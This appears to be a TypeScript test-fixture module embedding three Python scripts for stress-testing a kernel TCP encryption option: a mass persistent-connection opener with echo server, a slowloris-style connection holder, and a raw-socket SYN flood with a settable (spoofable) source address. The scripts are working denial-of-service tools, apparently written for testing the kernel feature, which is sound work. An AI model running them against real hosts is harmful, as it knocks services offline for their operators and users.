/** Python programs that mean no good, or too much of it. */

/**
 * `many ADDRESS PORT COUNT`: opens COUNT connections that stay, and says a word on each; prints how many were
 * answered, then waits for a line on stdin, and ends. `serve PORT`: the echo for it.
 */
export const STANDING = `
import json, socket, sys, threading
mode, arguments = sys.argv[1], sys.argv[2:]
def serve(port):
    listener = socket.create_server(('', port), backlog=4096)
    def echo(connection):
        with connection:
            try:
                while data := connection.recv(1000): connection.sendall(data)
            except OSError: pass
    while True:
        threading.Thread(target=echo, args=(listener.accept()[0],), daemon=True).start()
def many(address, port, count):
    answered, failures, connections = 0, [], []
    for i in range(count):
        try:
            connection = socket.create_connection((address, port), timeout=20)
            connections.append(connection)
            connection.sendall(b'%d' % i)
            assert connection.recv(100) == b'%d' % i
            answered += 1
        except Exception as error: failures.append(repr(error))
    print(json.dumps({'answered': answered, 'failures': failures[:10]}), flush=True)
    sys.stdin.readline()
    for connection in connections: connection.close()
if mode == 'serve': serve(int(arguments[0]))
else: many(arguments[0], int(arguments[1]), int(arguments[2]))
`;

/**
 * `ADDRESS PORT COUNT WORD`: connections that agree to encrypt and then say WORD, or nothing at all. Needs the kernel
 * part. Prints "open" when all are, and the number of those that were closed on it, when there is none left.
 */
export const LORIS = `
import select, socket, sys
address, port, count, word = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4].encode()
TCP_ENO_RAW = 1037
connections = []
for _ in range(count):
    connection = socket.socket()
    connection.setsockopt(socket.IPPROTO_TCP, TCP_ENO_RAW, b'\\x23')
    connection.connect((address, port))
    if word: connection.sendall(word)
    connections.append(connection)
print('open', flush=True)
poll = select.poll()
by_fd = {c.fileno(): c for c in connections}
for fd in by_fd: poll.register(fd, select.POLLIN)
closed = 0
while by_fd:
    for fd, _ in poll.poll():
        try: data = by_fd[fd].recv(100)
        except OSError: data = b''
        if not data:
            poll.unregister(fd)
            by_fd.pop(fd).close()
            closed += 1
print(closed, flush=True)
`;

/** \`FROM TO PORT COUNT\`: bare SYN segments with ENO, whose sender never answers. */
export const SYN_FLOOD = `
import random, socket, struct, sys
source, target, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
def checksum(data):
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
addresses = socket.inet_aton(source) + socket.inet_aton(target)
options = bytes([2, 4, 5, 180, 69, 3, 0x23, 1])
for i in range(count):
    head = struct.pack('!HHIIBBH', 1024 + i % 60000, port, random.getrandbits(32), 0, (20 + len(options)) // 4 << 4, 2, 65000)
    pseudo = addresses + struct.pack('!BBH', 0, 6, 20 + len(options))
    segment = head + struct.pack('!HH', checksum(pseudo + head + b'\\0' * 4 + options), 0) + options
    ip = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(segment), 0, 0, 64, 6, 0) + addresses
    raw.sendto(ip + segment, (target, 0))
print('sent')
`;
